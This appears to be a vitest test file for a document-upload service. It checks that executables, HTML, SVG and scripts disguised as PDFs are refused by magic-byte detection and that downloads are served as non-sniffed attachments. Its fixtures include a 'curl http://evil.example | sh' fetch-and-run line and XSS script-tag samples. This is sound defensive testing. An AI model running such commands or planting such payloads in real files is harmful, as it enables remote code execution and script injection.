/**
 * Issue 21 item 4, "Executables pass as PDFs": the type is decided by the
 * first bytes; executables, HTML, SVG and scripts are refused with 400 naming
 * `file` (nothing stored); the stored name ends in the detected type's
 * extension; downloads are attachments of the detected type, never sniffed.
 */
import { env, exports } from "cloudflare:workers";
import { describe, expect, it } from "vitest";
import { PRODUCTION } from "../helpers/api";
import { expectProblem, partnerWithKeys } from "../helpers/seed";
import { signingSecretOf } from "../../src/lib/signing-secret";
import { signFile } from "../../src/lib/signed-links";
import { createLead } from "../leads/helpers";
import { filesForm, hubCall, hubLead, requestDocuments } from "../hub/helpers";
import { bytes, pdf, png } from "./fixtures";
import { upload } from "./helpers";
import { inData } from "../helpers/data-db";

const concat = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};

/** A Windows executable whose first KB also holds `%PDF-`, as the review built it. */
const exeWithPdfHeader = () => concat(new Uint8Array([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00]), new Uint8Array(56), bytes("%PDF-1.7\n"), pdf());

const DANGEROUS: Record<string, () => Uint8Array> = {
  "windows executable": exeWithPdfHeader,
  "ELF executable": () => concat(new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), bytes("%PDF-1.7\n")),
  "Mach-O executable": () => concat(new Uint8Array([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1]), bytes("%PDF-1.7\n")),
  "HTML page": () => bytes("<!DOCTYPE html><html><body><script>alert(1)</script>%PDF-1.7</body></html>"),
  "SVG image": () => bytes('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
  "shell script": () => bytes("#!/bin/sh\ncurl http://evil.example | sh\n%PDF-1.7\n"),
  "script disguised as CSV": () => bytes("date,amount\n<script>alert(1)</script>,1\n2026-01-01,2\n"),
};

describe("issue 21 item 4: executables pass as PDFs", () => {
  it("refuses executables, HTML, SVG and scripts on the partner API with 400 naming file, storing nothing", async () => {
    const { sandbox } = await partnerWithKeys();
    const lead = await createLead(sandbox.key);
    const breaches: string[] = [];
    for (const [what, make] of Object.entries(DANGEROUS)) {
      const res = await upload(sandbox.key, lead.id, [
        { name: "document_type", value: "other" },
        { name: "file", value: make(), filename: "Bank statement.pdf.exe", type: "application/pdf" },
      ]);
      try {
        expectProblem(res, 400, "invalid_request");
        expect(res.body.error.field).toBe("file");
      } catch (error) {
        breaches.push(`${what}: ${res.status} ${(error as Error).message.slice(0, 120)}`);
      }
    }
    expect(breaches).toEqual([]);
    expect((await env.DB.prepare("select count(*) as n from documents where lead_id = ?").bind(lead.id).first<any>()).n).toBe(0);
  });

  it("decides PDF only from offset 0: %PDF- later in the first KB is not a PDF", async () => {
    const { sandbox } = await partnerWithKeys();
    const lead = await createLead(sandbox.key);
    const late = await upload(sandbox.key, lead.id, [
      { name: "document_type", value: "bank_statements" },
      { name: "file", value: concat(bytes("garbage header line\n"), pdf()), filename: "statement.pdf" },
    ]);
    expect(late.status).toBe(201);
    expect(late.body).toMatchObject({ state: "rejected", reason: "unsupported_file_type" });
  });

  it("stores the name with the detected type's extension and serves the download as an attachment of that type", async () => {
    const { sandbox } = await partnerWithKeys();
    const lead = await createLead(sandbox.key);
    const cases = [
      { file: pdf(), filename: "Bank statement.pdf.exe", type: "bank_statements", stored: "Bank statement.pdf", contentType: "application/pdf" },
      { file: png(), filename: "passport.pdf", type: "id_document", stored: "passport.png", contentType: "image/png" },
      { file: pdf(), filename: "accounts", type: "filed_accounts", stored: "accounts.pdf", contentType: "application/pdf" },
    ];
    for (const c of cases) {
      const res = await upload(sandbox.key, lead.id, [
        { name: "document_type", value: c.type },
        { name: "file", value: c.file, filename: c.filename, type: "text/html" },
      ]);
      expect(res.status).toBe(201);
      expect(res.body.filename).toBe(c.stored);
      const row = await inData.prepare("select storage_key, content_type, filename from documents where id = ?").bind(res.body.id).first<any>();
      expect(row).toMatchObject({ content_type: c.contentType, filename: c.stored });
      const link = await signFile(signingSecretOf(env), row.storage_key, Math.floor(Date.now() / 1000) + 60);
      const download = await exports.default.fetch(new Request(`${PRODUCTION}${link}`));
      expect(download.status).toBe(200);
      expect(download.headers.get("Content-Type")).toBe(c.contentType);
      expect(download.headers.get("X-Content-Type-Options")).toBe("nosniff");
      expect(download.headers.get("Content-Disposition")).toMatch(new RegExp(`^attachment; filename="${c.stored.replace(".", "\\.")}"`));
      await download.arrayBuffer();
    }
  });

  it("refuses an executable uploaded through the client hub with 400 on the file field, storing nothing", async () => {
    const { hub, lead, refA, a } = await hubLead();
    const request = await requestDocuments({ ref: refA, lenderOrganisationId: a.id, leadId: lead.id });
    const res = await hubCall("POST", `${hub}/requests/${request.id}`, { multipart: filesForm({ name: "Bank statement.pdf.exe", content: exeWithPdfHeader(), type: "application/pdf" }) });
    expect(res.status).toBe(400);
    expect(res.text).toContain("Bank statement.pdf.exe");
    expect((await env.DB.prepare("select count(*) as n from documents where request_id = ?").bind(request.id).first<any>()).n).toBe(0);
  });
});
